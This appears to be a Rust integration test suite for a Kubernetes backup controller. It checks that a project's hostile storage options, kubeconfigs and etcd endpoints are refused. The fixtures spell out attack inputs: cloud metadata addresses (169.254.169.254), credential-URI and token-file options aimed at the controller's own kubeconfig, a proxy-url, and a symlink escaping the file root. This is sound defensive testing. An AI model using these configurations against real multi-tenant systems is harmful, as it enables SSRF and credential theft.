//! Tenant isolation against the real controller binary: a project's hostile StorageLocations,
//! kubeconfigs and etcd endpoints are refused with a condition that names the refusal, a
//! listener on 127.0.0.1 standing for the attacker's server receives nothing, no program runs,
//! the controller's own credentials and files are not lent, and an honest location and cluster
//! of the same project work beside them.

use std::io::Read;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use anyhow::{Context, Result};
use serde_json::{Value, json};
use tests::controller::{ControllerProcess, Project, condition, has_condition};
use tests::env::shared;

const WAIT: Duration = Duration::from_secs(60);

/// A server on 127.0.0.1 standing for the attacker's: it records every connection and what
/// was sent on it, and answers nothing.
struct Attacker {
    port: u16,
    received: Arc<Mutex<Vec<String>>>,
}

impl Attacker {
    fn start() -> Result<Self> {
        let listener = TcpListener::bind("127.0.0.1:0")?;
        let port = listener.local_addr()?.port();
        let received = Arc::new(Mutex::new(Vec::new()));
        let log = Arc::clone(&received);
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let mut stream = stream;
                let _ = stream.set_read_timeout(Some(Duration::from_secs(1)));
                let mut buf = vec![0u8; 8192];
                let n = stream.read(&mut buf).unwrap_or(0);
                log.lock()
                    .unwrap()
                    .push(String::from_utf8_lossy(&buf[..n]).into_owned());
            }
        });
        Ok(Self { port, received })
    }

    fn url(&self) -> String {
        format!("http://127.0.0.1:{}", self.port)
    }

    fn assert_untouched(&self) {
        let received = self.received.lock().unwrap();
        assert!(
            received.is_empty(),
            "the attacker's listener received {} connection(s): {received:?}",
            received.len()
        );
    }
}

fn location(name: &str, provider: &str, bucket: &str, config: Value, credential: bool) -> Value {
    let mut spec = json!({
        "provider": provider,
        "objectStorage": {"bucket": bucket, "prefix": "fleet"},
        "config": config,
    });
    if credential {
        spec["credential"] = json!({"name": tests::controller::S3_SECRET, "key": "cloud"});
    }
    json!({"kind": "StorageLocation", "metadata": {"name": name}, "spec": spec})
}

/// Waits until StorageLocation `name` reports `Available=False` with `reason`; its message.
async fn refused(p: &Project, name: &str, reason: &str) -> Result<String> {
    let object = p
        .wait_for(
            "StorageLocation",
            name,
            WAIT,
            &format!("Available=False {reason}"),
            |l| has_condition(l, "Available", "False", reason),
        )
        .await?;
    Ok(message(&object, "Available"))
}

fn message(object: &Value, condition_type: &str) -> String {
    condition(object, condition_type).map_or(String::new(), |c| {
        c["message"].as_str().unwrap_or_default().to_string()
    })
}

/// The c1 kubeconfig the environment made, with `edit` applied to its text.
fn kubeconfig(edit: impl Fn(String) -> String) -> Result<Vec<u8>> {
    let env = shared()?;
    let c1 = env
        .user_clusters()
        .iter()
        .find(|c| c.name == "c1")
        .context("cluster c1")?;
    Ok(edit(std::fs::read_to_string(&c1.inline_kubeconfig)?).into_bytes())
}

/// Replaces the `server:` line of a kubeconfig.
fn with_server(text: String, server: &str) -> String {
    text.lines()
        .map(|l| match l.trim_start().strip_prefix("server:") {
            Some(_) => format!("    server: {server}"),
            None => l.to_string(),
        })
        .collect::<Vec<_>>()
        .join("\n")
}

async fn cluster_from(p: &Project, name: &str, kubeconfig: Vec<u8>) -> Result<()> {
    let secret = format!("{name}-kubeconfig");
    p.secret(&secret, "kubeconfig", &kubeconfig).await?;
    p.apply(json!({
        "kind": "ManagedCluster", "metadata": {"name": name},
        "spec": {"kubeconfig": {"name": secret, "key": "kubeconfig"}, "engine": "direct"}
    }))
    .await
}

async fn unreachable_with(p: &Project, name: &str, reason: &str) -> Result<String> {
    let object = p
        .wait_for(
            "ManagedCluster",
            name,
            WAIT,
            &format!("Reachable=False {reason}"),
            |c| has_condition(c, "Reachable", "False", reason),
        )
        .await?;
    Ok(message(&object, "Reachable"))
}

/// A directory holding an `az` that leaves a marker when run: the Azure CLI credential of
/// object_store would run it.
fn fake_az(dir: &Path) -> Result<PathBuf> {
    use std::os::unix::fs::PermissionsExt;
    let marker = dir.join("az-ran");
    let script = dir.join("az");
    std::fs::write(
        &script,
        format!("#!/bin/sh\ntouch {}\nexit 1\n", marker.display()),
    )?;
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755))?;
    Ok(marker)
}

#[tokio::test]
async fn hostile_options_kubeconfigs_and_addresses_are_refused_and_reach_nothing() -> Result<()> {
    let env = shared()?;
    let attacker = Attacker::start()?;
    let p = Project::create("tenancy").await?;
    let work = tempfile::tempdir()?;
    let marker = fake_az(work.path())?;
    let root = work.path().join("file-root");
    std::fs::create_dir_all(root.join("inside"))?;
    let outside = work.path().join("outside");
    std::fs::create_dir_all(&outside)?;
    std::os::unix::fs::symlink(&outside, root.join("link"))?;
    // A file of the controller's machine the attacks try to send away.
    let controller_file = env.management()?.kubeconfig.display().to_string();
    let token = format!("{}/latest/api/token", attacker.url());

    let aws = |extra: Value| {
        let mut config =
            json!({"region": "us-east-1", "s3Url": attacker.url(), "s3ForcePathStyle": "true"});
        for (k, v) in extra.as_object().unwrap() {
            config[k] = v.clone();
        }
        config
    };
    let hostile_options = [
        (
            "container-credentials",
            "aws",
            aws(
                json!({"container_credentials_full_uri": token, "container_authorization_token_file": controller_file}),
            ),
        ),
        (
            "metadata-endpoint",
            "aws",
            aws(json!({"metadata_endpoint": attacker.url()})),
        ),
        (
            "web-identity",
            "aws",
            aws(
                json!({"web_identity_token_file": controller_file, "role_arn": "arn:aws:iam::1:role/x", "endpoint_url_sts": token}),
            ),
        ),
        ("proxy", "aws", aws(json!({"proxy_url": attacker.url()}))),
        ("unsigned", "aws", aws(json!({"skip_signature": "true"}))),
        (
            "gcp-key-file",
            "gcp",
            json!({"service_account_path": controller_file}),
        ),
        (
            "azure-federated",
            "azure",
            json!({"storageAccount": "a", "federated_token_file": controller_file, "authority_host": attacker.url()}),
        ),
        (
            "azure-cli",
            "azure",
            json!({"storageAccount": "a", "use_azure_cli": "true"}),
        ),
    ];
    for (name, provider, config) in &hostile_options {
        p.apply(location(name, provider, "backups", config.clone(), true))
            .await?;
    }
    // The controller's own environment holds valid S3 keys for the real store: a location
    // without credentials must not get them.
    let s3 = env.s3();
    p.apply(location(
        "no-credential",
        "aws",
        "backups",
        json!({"region": s3.region, "s3Url": s3.endpoint, "s3ForcePathStyle": "true"}),
        false,
    ))
    .await?;
    p.apply(location(
        "metadata-address",
        "aws",
        "backups",
        json!({"region": "us-east-1", "s3Url": "http://169.254.169.254"}),
        true,
    ))
    .await?;
    for (name, dir) in [
        ("file-outside", outside.clone()),
        ("file-symlink", root.join("link")),
        ("file-inside", root.join("inside")),
    ] {
        p.apply(location(
            name,
            "file",
            dir.to_str().unwrap(),
            json!({}),
            false,
        ))
        .await?;
    }
    p.apply(p.s3_location("honest", true)?).await?;

    cluster_from(
        &p,
        "proxied",
        kubeconfig(|k| {
            k.replace(
                "    server:",
                &format!("    proxy-url: {}\n    server:", attacker.url()),
            )
        })?,
    )
    .await?;
    cluster_from(
        &p,
        "metadata-server",
        kubeconfig(|k| with_server(k, "https://169.254.169.254:443"))?,
    )
    .await?;
    p.apply(p.cluster("c1", "c1", json!({}))).await?;
    let mut etcd_metadata = p.cluster("etcd-metadata", "c1", json!({}));
    etcd_metadata["spec"]["etcd"] = json!({"endpoints": ["http://169.254.169.254:2379"]});
    p.apply(etcd_metadata).await?;
    p.apply(
        json!({"kind": "EtcdBackupConfig", "metadata": {"name": "to-metadata"},
                   "spec": {"cluster": "etcd-metadata", "storageLocation": "honest"}}),
    )
    .await?;

    let path = format!(
        "{}:{}",
        work.path().display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let root_arg = root.display().to_string();
    let controller = ControllerProcess::start_with_env(
        tests::controller_bin!(),
        &p,
        "tenancy",
        &["--file-root", &root_arg],
        &[
            ("PATH", path.as_str()),
            ("AWS_ACCESS_KEY_ID", s3.access_key_id.as_str()),
            ("AWS_SECRET_ACCESS_KEY", s3.secret_access_key.as_str()),
            ("AWS_ENDPOINT_URL", s3.endpoint.as_str()),
        ],
    )
    .await?;

    for (name, _, config) in &hostile_options {
        let message = refused(&p, name, "OptionNotAllowed")
            .await
            .with_context(|| controller.log_text())?;
        let key = config
            .as_object()
            .unwrap()
            .keys()
            .find(|k| message.contains(k.as_str()))
            .with_context(|| format!("{name}: the message names no key: {message}"))?;
        assert!(
            message.contains("Storage location options"),
            "{name} ({key}): {message}"
        );
    }
    let message = refused(&p, "no-credential", "CredentialRequired").await?;
    assert!(message.contains("spec.credential"), "{message}");
    let message = refused(&p, "metadata-address", "AddressNotAllowed").await?;
    assert!(message.contains("169.254.169.254"), "{message}");
    refused(&p, "file-outside", "OutsideFileRoot").await?;
    let message = refused(&p, "file-symlink", "OutsideFileRoot").await?;
    assert!(message.contains("symlink"), "{message}");
    for honest in ["honest", "file-inside"] {
        p.wait_for("StorageLocation", honest, WAIT, "Available", |l| {
            has_condition(l, "Available", "True", "Available")
        })
        .await
        .with_context(|| controller.log_text())?;
    }
    assert_eq!(
        std::fs::read_dir(&outside)?.count(),
        0,
        "written outside the root"
    );

    let message = unreachable_with(&p, "proxied", "KubeconfigInvalid").await?;
    assert!(message.contains("proxy-url"), "{message}");
    let message = unreachable_with(&p, "metadata-server", "AddressNotAllowed").await?;
    assert!(message.contains("169.254.169.254"), "{message}");
    p.wait_for("ManagedCluster", "c1", WAIT, "Reachable", |c| {
        condition(c, "Reachable").is_some_and(|r| r["status"] == "True")
    })
    .await?;
    let config = p
        .wait_for(
            "EtcdBackupConfig",
            "to-metadata",
            WAIT,
            "the snapshot to the metadata address failed",
            |c| c["status"]["lastBackups"][0]["backupPhase"] == "Failed",
        )
        .await?;
    let failed = config["status"]["lastBackups"][0]["message"]
        .as_str()
        .unwrap_or_default();
    assert!(failed.contains("projects may not reach"), "{failed}");

    attacker.assert_untouched();
    assert!(!marker.exists(), "the Azure CLI credential ran a program");
    let events = p.events_json().await?;
    assert!(!events.contains(&controller_file), "{events}");
    p.delete().await
}

/// A server on 127.0.0.1 that answers every request with `response` and counts them.
fn answering(response: String) -> Result<(u16, Arc<Mutex<usize>>)> {
    let listener = TcpListener::bind("127.0.0.1:0")?;
    let port = listener.local_addr()?.port();
    let count = Arc::new(Mutex::new(0));
    let seen = Arc::clone(&count);
    std::thread::spawn(move || {
        use std::io::Write;
        for stream in listener.incoming().flatten() {
            let mut stream = stream;
            let _ = stream.set_read_timeout(Some(Duration::from_secs(1)));
            let mut buf = vec![0u8; 8192];
            let _ = stream.read(&mut buf);
            *seen.lock().unwrap() += 1;
            let _ = stream.write_all(response.as_bytes());
        }
    });
    Ok((port, count))
}

#[tokio::test]
async fn what_a_projects_servers_answer_is_summarised_never_repeated() -> Result<()> {
    const SECRET: &str = "internal-admin-token-5f2a";
    let body = format!(
        "<?xml version=\"1.0\"?><Error><Code>AccessDenied</Code><Message>{SECRET}</Message></Error>"
    );
    let (store_port, store_hits) = answering(format!(
        "HTTP/1.1 403 Forbidden\r\nContent-Type: application/xml\r\nConnection: close\r\n\
         Content-Length: {}\r\n\r\n{body}",
        body.len()
    ))?;
    let page = format!("<html>{SECRET}</html>");
    let (api_port, api_hits) = answering(format!(
        "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n\
         Content-Length: {}\r\n\r\n{page}",
        page.len()
    ))?;
    let p = Project::create("tenancy-answers").await?;
    p.apply(location(
        "talkative",
        "aws",
        "backups",
        json!({"region": "us-east-1", "s3Url": format!("http://127.0.0.1:{store_port}")}),
        true,
    ))
    .await?;
    cluster_from(
        &p,
        "talkative",
        kubeconfig(|k| with_server(k, &format!("http://127.0.0.1:{api_port}")))?,
    )
    .await?;
    let controller = ControllerProcess::start(tests::controller_bin!(), &p, "answers", &[]).await?;
    let message = refused(&p, "talkative", "AccessDenied")
        .await
        .with_context(|| controller.log_text())?;
    assert!(
        message.contains("HTTP 403 Forbidden (AccessDenied)"),
        "{message}"
    );
    let cluster = p
        .wait_for(
            "ManagedCluster",
            "talkative",
            WAIT,
            "Reachable=False",
            |c| condition(c, "Reachable").is_some_and(|c| c["status"] == "False"),
        )
        .await?;
    assert!(*store_hits.lock().unwrap() > 0 && *api_hits.lock().unwrap() > 0);
    let everything = format!(
        "{}\n{}\n{}\n{}",
        p.get("StorageLocation", "talkative").await?,
        cluster,
        p.events_json().await?,
        controller.get("/metrics").map(|r| r.1).unwrap_or_default()
    );
    assert!(
        !everything.contains(SECRET),
        "the answer was repeated:\n{everything}"
    );
    p.delete().await
}

#[tokio::test]
async fn with_loopback_denied_names_are_judged_by_the_address_they_resolve_to() -> Result<()> {
    let env = shared()?;
    let attacker = Attacker::start()?;
    let p = Project::create("tenancy-dns").await?;
    let by_name = format!("http://localhost:{}", attacker.port);
    p.apply(location(
        "by-name",
        "aws",
        "backups",
        json!({"region": "us-east-1", "s3Url": by_name}),
        true,
    ))
    .await?;
    cluster_from(
        &p,
        "by-name",
        kubeconfig(|k| with_server(k, &format!("https://localhost:{}", attacker.port)))?,
    )
    .await?;
    let mut etcd = p.cluster("etcd-by-name", "c1", json!({}));
    etcd["spec"]["etcd"] = json!({"endpoints": [by_name]});
    p.apply(etcd).await?;
    // Snapshots go to a `file` location (the real S3 server is on loopback too, and so refused
    // here): the etcd endpoint itself must be what refuses the snapshot.
    let work = tempfile::tempdir()?;
    let mut files = location(
        "files",
        "file",
        work.path().join("snapshots").to_str().unwrap(),
        json!({}),
        false,
    );
    files["spec"]["default"] = json!(true);
    p.apply(files).await?;
    p.apply(
        json!({"kind": "EtcdBackupConfig", "metadata": {"name": "etcd-by-name"},
                   "spec": {"cluster": "etcd-by-name"}}),
    )
    .await?;
    let root = work.path().display().to_string();
    let controller = ControllerProcess::start(
        tests::controller_bin!(),
        &p,
        "dns",
        &["--deny-cidrs", "127.0.0.0/8,::1/128", "--file-root", &root],
    )
    .await?;
    let message = refused(&p, "by-name", "AddressNotAllowed")
        .await
        .with_context(|| controller.log_text())?;
    assert!(message.contains("`localhost` resolves to"), "{message}");
    let message = unreachable_with(&p, "by-name", "AddressNotAllowed").await?;
    assert!(message.contains("localhost"), "{message}");
    // The management cluster itself is on loopback: the platform's own connections are not a
    // project's and keep working (the controller reconciled all of the above through it).
    assert!(env.management().is_ok());
    let config = p
        .wait_for(
            "EtcdBackupConfig",
            "etcd-by-name",
            WAIT,
            "the snapshot failed",
            |c| c["status"]["lastBackups"][0]["backupPhase"] == "Failed",
        )
        .await
        .with_context(|| controller.log_text())?;
    let failed = config["status"]["lastBackups"][0]["message"].to_string();
    assert!(failed.contains("`localhost` resolves to"), "{failed}");
    attacker.assert_untouched();
    p.delete().await
}
